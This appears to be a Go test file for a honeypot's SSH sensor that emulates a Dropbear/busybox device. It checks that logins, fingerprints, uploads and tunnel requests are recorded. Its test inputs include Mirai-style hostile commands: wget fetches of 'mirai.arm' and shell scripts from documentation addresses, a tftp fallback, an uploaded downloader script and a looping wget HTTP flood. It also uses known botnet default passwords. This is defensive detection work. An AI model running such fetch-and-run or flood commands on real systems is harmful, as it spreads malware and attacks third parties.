package ssh

import (
	"bufio"
	"bytes"
	"crypto/ed25519"
	"crypto/md5"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	xssh "golang.org/x/crypto/ssh"

	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/sensor"
)

func TestHostKeysKeptAcrossRestarts(t *testing.T) {
	dir := t.TempDir()
	a := startServer(t, DefaultConfig(), sensor.DefaultLimits(), dir)
	b := startServer(t, DefaultConfig(), sensor.DefaultLimits(), dir)
	ka, kb := a.s.HostKeys(), b.s.HostKeys()
	if len(ka) != 2 || ka[0].Type() != "ssh-rsa" || ka[1].Type() != "ssh-dss" {
		t.Fatalf("host keys %v", ka)
	}
	for i := range ka {
		if !bytes.Equal(ka[i].Marshal(), kb[i].Marshal()) {
			t.Errorf("key %d changed across restarts", i)
		}
	}
	for _, name := range []string{"ssh_host_rsa_key", "ssh_host_dss_key"} {
		fi, err := os.Stat(filepath.Join(dir, "ssh", name))
		if err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v %v", name, fi, err)
		}
	}
	// The client sees one of them.
	var seen xssh.PublicKey
	cc := clientConfig("root", xssh.Password("xc3511"))
	cc.HostKeyCallback = func(_ string, _ net.Addr, k xssh.PublicKey) error { seen = k; return nil }
	dial(t, a.addr, cc)
	if seen == nil || (!bytes.Equal(seen.Marshal(), ka[0].Marshal()) && !bytes.Equal(seen.Marshal(), ka[1].Marshal())) {
		t.Errorf("client saw host key %v", seen)
	}
}

func TestVersionAndHASSH(t *testing.T) {
	cfg := DefaultConfig()
	cfg.ServerVersion = "SSH-2.0-dropbear_2017.75"
	ts := startServer(t, cfg, sensor.DefaultLimits(), "")

	// The server's identification line, read raw.
	c, err := net.Dial("tcp", ts.addr)
	if err != nil {
		t.Fatal(err)
	}
	line, err := bufio.NewReader(c).ReadString('\n')
	c.Close()
	if err != nil || line != "SSH-2.0-dropbear_2017.75\r\n" {
		t.Fatalf("server identification %q, %v", line, err)
	}

	cc := clientConfig("root", xssh.Password("xc3511"))
	cc.ClientVersion = "SSH-2.0-libssh2_1.4.3"
	cc.KeyExchanges = []string{"diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"}
	cc.Ciphers = []string{"aes128-cbc", "aes128-ctr"}
	cc.MACs = []string{"hmac-sha1"}
	cl := dial(t, ts.addr, cc)
	cl.Close()
	evs := ts.pub.WaitKind(t, event.SessionConnect, 2)
	e := evs[1]
	if e.ClientVersion != "SSH-2.0-libssh2_1.4.3" {
		t.Errorf("connect: client version %q", e.ClientVersion)
	}
	// x/crypto appends its extension markers to the kex list; the rest is
	// what the client was configured with.
	algos := string(e.HASSHAlgorithms)
	parts := strings.Split(algos, ";")
	if len(parts) != 4 || !strings.HasPrefix(parts[0], "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1") ||
		parts[1] != "aes128-cbc,aes128-ctr" || parts[2] != "hmac-sha1" || parts[3] != "none" {
		t.Errorf("hassh_algorithms %q", algos)
	}
	if string(e.KexAlgs) != parts[0] {
		t.Errorf("kex_algs %q", e.KexAlgs)
	}
	sum := md5.Sum([]byte(algos))
	if e.HASSH != hex.EncodeToString(sum[:]) {
		t.Errorf("hassh %q, want md5 of %q", e.HASSH, algos)
	}
}

func TestPasswordLoginAndExec(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	out, status := run(t, cl, "echo hello\nwget http://198.51.100.7/bins/mirai.arm")
	if status != 0 || !strings.HasPrefix(out, "hello\n") {
		t.Errorf("status %d, output %q", status, out)
	}
	cl.Close()
	ts.pub.WaitKind(t, event.SessionClosed, 1)
	logins := ts.pub.OfKind(event.LoginSuccess)
	if len(logins) != 1 || logins[0].Username != "root" || *logins[0].Password != event.Text("xc3511") || logins[0].Proto != "ssh" {
		t.Fatalf("login events %+v", logins)
	}
	if d := ts.pub.OfKind(event.FileDownload); len(d) != 1 || d[0].URL != "http://198.51.100.7/bins/mirai.arm" || d[0].Tool != "wget" {
		t.Errorf("downloads %+v", d)
	}
	// exec is sh -c: the whole text is one command.
	if c := ts.pub.OfKind(event.CommandInput); len(c) != 1 || c[0].Input != "echo hello\nwget http://198.51.100.7/bins/mirai.arm" || !strings.HasPrefix(string(c[0].Output), "hello\n") {
		t.Errorf("commands %+v", c)
	}
	evs := ts.pub.Events()
	if evs[0].Kind != event.SessionConnect || evs[len(evs)-1].Kind != event.SessionClosed {
		t.Errorf("order %v", ts.pub.Kinds())
	}
	for _, e := range evs {
		if e.Session != evs[0].Session {
			t.Errorf("session ids differ: %v", e)
		}
	}
}

func TestLoginFailuresEndConnection(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	tries := 0
	cc := clientConfig("root", xssh.RetryableAuthMethod(xssh.PasswordCallback(func() (string, error) {
		tries++
		return "wrong", nil
	}), 10))
	if _, err := xssh.Dial("tcp", ts.addr, cc); err == nil {
		t.Fatal("login with a wrong password succeeded")
	}
	closed := ts.pub.WaitKind(t, event.SessionClosed, 1)
	if got := len(ts.pub.OfKind(event.LoginFailed)); got != 3 || tries != 3 {
		t.Errorf("%d login.failed events, %d tries; want 3", got, tries)
	}
	if closed[0].Message != "too many login attempts" {
		t.Errorf("close reason %q", closed[0].Message)
	}
}

// keyboard-interactive is offered by default (bots and sshpass use it):
// one "Password: " question, judged as a password.
func TestKeyboardInteractive(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	var asked []string
	cc := clientConfig("admin", xssh.KeyboardInteractive(func(name, instr string, qs []string, echos []bool) ([]string, error) {
		asked = append(asked, qs...)
		return []string{"admin"}, nil
	}))
	cl := dial(t, ts.addr, cc)
	cl.Close()
	if len(asked) != 1 || asked[0] != "Password: " {
		t.Errorf("questions %q", asked)
	}
	if l := ts.pub.WaitKind(t, event.LoginSuccess, 1); l[0].Username != "admin" {
		t.Errorf("login %+v", l[0])
	}
}

// With keyboard_interactive off the methods are Dropbear's: a client that
// only has keyboard-interactive is refused before any question, and
// nothing is recorded as a login.
func TestNoKeyboardInteractive(t *testing.T) {
	cfg := DefaultConfig()
	cfg.KeyboardInteractive = false
	ts := startServer(t, cfg, sensor.DefaultLimits(), "")
	asked := 0
	cc := clientConfig("admin", xssh.KeyboardInteractive(func(name, instr string, qs []string, echos []bool) ([]string, error) {
		asked++
		return []string{"admin"}, nil
	}))
	_, err := xssh.Dial("tcp", ts.addr, cc)
	if err == nil || asked != 0 {
		t.Fatalf("keyboard-interactive: err %v, %d questions", err, asked)
	}
	ts.pub.WaitKind(t, event.SessionClosed, 1)
	if n := len(ts.pub.OfKind(event.LoginSuccess)) + len(ts.pub.OfKind(event.LoginFailed)); n != 0 {
		t.Errorf("%d logins recorded", n)
	}
}

// Dropbear exits on an identification that is not SSH 2 (SSH-2.x or
// SSH-1.99): the client reads the server's line and then the close, no
// key exchange. The session is recorded with the client's version.
func TestIncompatibleVersionClosed(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	for i, c := range []struct {
		ident string
		kex   bool
	}{
		{"SSH-1.5-scanner\r\n", false},
		{"SSH-1.0-x\r\n", false},
		{"SSH-3.0-x\r\n", false},
		{"SSH-1.99-OpenSSH_3.9\r\n", true},
		{"SSH-2.0-Go\r\n", true},
	} {
		conn, err := net.Dial("tcp", ts.addr)
		if err != nil {
			t.Fatal(err)
		}
		conn.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(conn, c.ident)
		br := bufio.NewReader(conn)
		line, err := br.ReadString('\n')
		if err != nil || line != DefaultVersion+"\r\n" {
			t.Fatalf("%q: server line %q %v", c.ident, line, err)
		}
		rest, err := io.ReadAll(io.LimitReader(br, 5))
		if c.kex && len(rest) != 5 {
			t.Errorf("%q: no key exchange (%q, %v)", c.ident, rest, err)
		}
		if !c.kex && len(rest) != 0 {
			t.Errorf("%q: the server went on (%q)", c.ident, rest)
		}
		conn.Close()
		ts.pub.WaitKind(t, event.SessionClosed, i+1)
	}
	var bad []string
	for _, e := range ts.pub.OfKind(event.SessionClosed) {
		if e.Message == "incompatible version" {
			bad = append(bad, e.Session)
		}
	}
	if len(bad) != 3 {
		t.Errorf("%d sessions closed as incompatible, want 3", len(bad))
	}
	for _, e := range ts.pub.OfKind(event.SessionConnect) {
		if slices.Contains(bad, e.Session) && !strings.HasPrefix(string(e.ClientVersion), "SSH-") {
			t.Errorf("connect of an incompatible client: version %q", e.ClientVersion)
		}
	}
}

func TestPublicKeyRecordedAndRefused(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	// A bot's key of its own.
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := xssh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	cl := dial(t, ts.addr, clientConfig("root", xssh.PublicKeys(signer), xssh.Password("vizxv")))
	cl.Close()
	keys := ts.pub.WaitKind(t, event.ClientFingerprint, 1)
	if f := keys[0]; f.KeyFingerprint != xssh.FingerprintSHA256(signer.PublicKey()) || f.KeyType != "ssh-ed25519" || keys[0].Username != "root" {
		t.Errorf("fingerprint event %+v", keys[0])
	}
	ts.pub.WaitKind(t, event.LoginSuccess, 1)
}

func TestDirectTCPIPRecordedAndRefused(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	// A documentation address: nothing listens there, and the sensor must
	// not try.
	if c, err := cl.Dial("tcp", "203.0.113.25:25"); err == nil {
		c.Close()
		t.Fatal("direct-tcpip was accepted")
	}
	tun := ts.pub.WaitKind(t, event.DirectTCPIPRequest, 1)
	if f := tun[0]; f.TargetHost != "203.0.113.25" || f.TargetPort != 25 {
		t.Errorf("tunnel event %+v", tun[0])
	}
	// The connection survives the refusal.
	if out, _ := run(t, cl, "echo still here"); out != "still here\n" {
		t.Errorf("after refusal: %q", out)
	}
}

func TestInteractivePTY(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sess.RequestPty("xterm", 40, 132, xssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	in, _ := sess.StdinPipe()
	var out bytes.Buffer
	sess.Stdout = &out
	if err := sess.Shell(); err != nil {
		t.Fatal(err)
	}
	io.WriteString(in, "\r")
	io.WriteString(in, "echo hj\x7fi\r") // backspace, as ash's line editor applies it
	io.WriteString(in, "\x1b[A\r")       // the up arrow recalls the last line
	io.WriteString(in, "exit\r")
	if err := sess.Wait(); err != nil {
		t.Fatalf("wait: %v", err)
	}
	got := out.String()
	for _, want := range []string{"built-in shell (ash)\r\n", "~ # \r\n~ # echo hj\b \bi\r\nhi\r\n~ # \r\x1b[K~ # echo hi\r\nhi\r\n~ # exit\r\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("transcript %q lacks %q", got, want)
		}
	}
	cl.Close()
	ts.pub.WaitKind(t, event.SessionClosed, 1)
	if c := ts.pub.OfKind(event.CommandInput); len(c) != 3 || c[0].Input != "echo hi" || c[1].Input != "echo hi" || c[2].Input != "exit" {
		t.Errorf("command.input events %+v, want echo hi twice and exit (an empty line is no command)", c)
	}
	if sz := ts.pub.WaitKind(t, event.ClientSize, 1); sz[0].Width != 132 || sz[0].Height != 40 {
		t.Errorf("size %+v", sz[0])
	}
}

func TestShellWithoutPTY(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	// No pty: ash is not interactive, so no banner, prompt or echo; an
	// unfinished line waits for the next; the last line needs no line end.
	sess.Stdin = strings.NewReader("echo one\nfor i in 1 2\ndo echo x; done\necho two")
	var out bytes.Buffer
	sess.Stdout = &out
	if err := sess.Shell(); err != nil {
		t.Fatal(err)
	}
	if err := sess.Wait(); err != nil {
		t.Fatal(err)
	}
	if got, want := out.String(), "one\nx\nx\ntwo\n"; got != want {
		t.Errorf("output %q, want %q", got, want)
	}
}

func TestCommandLimit(t *testing.T) {
	lim := sensor.DefaultLimits()
	lim.MaxCommands = 2
	ts := startServer(t, DefaultConfig(), lim, "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	if out, status := run(t, cl, "echo 1"); out != "1\n" || status != 0 {
		t.Errorf("first command: output %q status %d", out, status)
	}
	// The last command allowed still gets its answer, then the session ends.
	if out, status := run(t, cl, "echo 2"); out != "2\n" || status != 1 {
		t.Errorf("last command: output %q status %d", out, status)
	}
	closed := ts.pub.WaitKind(t, event.SessionClosed, 1)
	if closed[0].Message != "command limit" || len(ts.pub.OfKind(event.CommandInput)) != 2 {
		t.Errorf("close %q, %d commands", closed[0].Message, len(ts.pub.OfKind(event.CommandInput)))
	}
}

func TestSCPUpload(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	payload := bytes.Repeat([]byte("\x7fELF mirai"), 1000)
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	in, _ := sess.StdinPipe()
	outp, _ := sess.StdoutPipe()
	if err := sess.Start("scp -t /tmp/"); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(outp)
	expectAck := func() {
		t.Helper()
		if b, err := br.ReadByte(); err != nil || b != 0 {
			t.Fatalf("ack %v %v", b, err)
		}
	}
	expectAck()
	io.WriteString(in, "C0755 "+strconv.Itoa(len(payload))+" dvrHelper\n")
	expectAck()
	in.Write(payload)
	in.Write([]byte{0})
	expectAck()
	in.Close()
	if err := sess.Wait(); err != nil {
		t.Fatal(err)
	}
	up := ts.pub.WaitKind(t, event.FileUpload, 1)
	sum := sha256.Sum256(payload)
	want := hex.EncodeToString(sum[:])
	if f := up[0]; f.SHA256 != want || f.UploadSize != int64(len(payload)) || up[0].Filename != "/tmp/dvrHelper" || up[0].Tool != "scp" {
		t.Errorf("upload %+v, want sha %s", up[0], want)
	}
	kept := mustRead(t, filepath.Join(ts.dir, "samples", want))
	if !bytes.Equal(kept, payload) {
		t.Errorf("sample differs")
	}
	if fi, _ := os.Stat(filepath.Join(ts.dir, "samples", want)); fi.Mode().Perm()&0o111 != 0 {
		t.Errorf("sample is executable: %v", fi.Mode())
	}
}

func TestSFTPUpload(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	in, _ := sess.StdinPipe()
	outp, _ := sess.StdoutPipe()
	if err := sess.RequestSubsystem("sftp"); err != nil {
		t.Fatal(err)
	}
	c := &sftpClient{t: t, w: in, r: outp}
	c.send(fxpInit, u32(3))
	if typ, _ := c.recv(); typ != fxpVersion {
		t.Fatalf("INIT answered %d", typ)
	}
	c.send(fxpOpen, cat(u32(1), str("/tmp/x.sh"), u32(0x1a), u32(0)))
	typ, p := c.recv()
	if typ != fxpHandle {
		t.Fatalf("OPEN answered %d", typ)
	}
	h := (&sshReader{b: p[4:]}).str()
	part1, part2 := []byte("#!/bin/sh\n"), []byte("wget http://198.51.100.9/x\n")
	c.send(fxpWrite, cat(u32(2), str(h), u64(0), str(string(part1))))
	c.status(fxOK)
	c.send(fxpWrite, cat(u32(3), str(h), u64(uint64(len(part1))), str(string(part2))))
	c.status(fxOK)
	c.send(fxpClose, cat(u32(4), str(h)))
	c.status(fxOK)
	in.Close()
	sess.Wait()
	up := ts.pub.WaitKind(t, event.FileUpload, 1)
	sum := sha256.Sum256(append(part1, part2...))
	if up[0].SHA256 != hex.EncodeToString(sum[:]) || up[0].Filename != "/tmp/x.sh" || up[0].Tool != "sftp" {
		t.Errorf("upload %+v", up[0])
	}
}

type sftpClient struct {
	t *testing.T
	w io.Writer
	r io.Reader
}

func (c *sftpClient) send(typ byte, payload []byte) {
	b := u32(uint32(1 + len(payload)))
	b = append(b, typ)
	if _, err := c.w.Write(append(b, payload...)); err != nil {
		c.t.Fatal(err)
	}
}

func (c *sftpClient) recv() (byte, []byte) {
	var hdr [4]byte
	if _, err := io.ReadFull(c.r, hdr[:]); err != nil {
		c.t.Fatal(err)
	}
	b := make([]byte, (&sshReader{b: hdr[:]}).u32())
	if _, err := io.ReadFull(c.r, b); err != nil {
		c.t.Fatal(err)
	}
	return b[0], b[1:]
}

func (c *sftpClient) status(want uint32) {
	c.t.Helper()
	typ, p := c.recv()
	rd := &sshReader{b: p}
	rd.u32()
	if code := rd.u32(); typ != fxpStatus || code != want {
		c.t.Fatalf("got %d code %d, want status %d", typ, code, want)
	}
}

func u32(v uint32) []byte { return []byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)} }
func u64(v uint64) []byte { return append(u32(uint32(v>>32)), u32(uint32(v))...) }
func str(s string) []byte { return append(u32(uint32(len(s))), s...) }
func cat(bs ...[]byte) []byte {
	var out []byte
	for _, b := range bs {
		out = append(out, b...)
	}
	return out
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// What the device records of a line is the same on both doors: URLs of
// commands that did not run (marked), and flood targets as attacks, never
// as downloads.
func TestDownloadsAndFloodsAsTelnet(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	run(t, cl, "cd /tmp; wget http://198.51.100.1/a.sh || tftp -g -r b.sh 198.51.100.2")
	run(t, cl, `sh -c "while true; do wget -O /dev/null http://203.0.113.80/; done" &`)
	cl.Close()
	ts.pub.WaitKind(t, event.SessionClosed, 1)
	var ran, notRan bool
	for _, d := range ts.pub.OfKind(event.FileDownload) {
		if d.URL == "http://198.51.100.1/a.sh" && d.Ran != nil && *d.Ran {
			ran = true
		}
		if strings.Contains(string(d.URL), "198.51.100.2") && d.Ran != nil && !*d.Ran {
			notRan = true
		}
		if strings.Contains(string(d.URL), "203.0.113.80") {
			t.Errorf("flood target recorded as a download: %+v", d)
		}
	}
	if !ran || !notRan {
		t.Errorf("downloads %+v: want a.sh ran and the tftp fallback not run", ts.pub.OfKind(event.FileDownload))
	}
	floods := ts.pub.OfKind(event.AttackHTTPFlood)
	if len(floods) != 1 || floods[0].TargetURL != "http://203.0.113.80/" || floods[0].Proto != "ssh" {
		t.Errorf("attack.http_flood events %+v", floods)
	}
}

// An upload cut short by the session's input limit is still recorded.
func TestSCPUploadCutShort(t *testing.T) {
	lim := sensor.DefaultLimits()
	lim.MaxBytesIn = 64 << 10
	ts := startServer(t, DefaultConfig(), lim, "")
	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	in, _ := sess.StdinPipe()
	sess.Stdout = io.Discard
	if err := sess.Start("scp -t /tmp/big"); err != nil {
		t.Fatal(err)
	}
	io.WriteString(in, "C0755 1000000 big\n")
	go in.Write(bytes.Repeat([]byte("A"), 1000000)) // the server ends the session midway
	up := ts.pub.WaitKind(t, event.FileUpload, 1)
	if up[0].Filename != "/tmp/big" || up[0].UploadSize <= 0 || up[0].UploadSize >= 1000000 || !strings.Contains(string(up[0].Message), "incomplete") {
		t.Errorf("upload %+v", up[0])
	}
	if c := ts.pub.WaitKind(t, event.SessionClosed, 1); c[0].Message != "input limit" {
		t.Errorf("close reason %q", c[0].Message)
	}
}

// A failed password is answered after Dropbear's pause (300 ms +- 50), a
// right one at once.
func TestFailedPasswordPause(t *testing.T) {
	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
	start := time.Now()
	_, err := xssh.Dial("tcp", ts.addr, clientConfig("root", xssh.Password("certainly-not-this")))
	failed := time.Since(start)
	if err == nil {
		t.Fatal("a wrong password was accepted")
	}
	start = time.Now()
	dial(t, ts.addr, clientConfig("admin", xssh.Password("admin"))).Close()
	ok := time.Since(start)
	if failed < failPauseMin || failed-ok < failPauseMin-50*time.Millisecond {
		t.Errorf("failed login answered in %v, a good one in %v", failed, ok)
	}
}
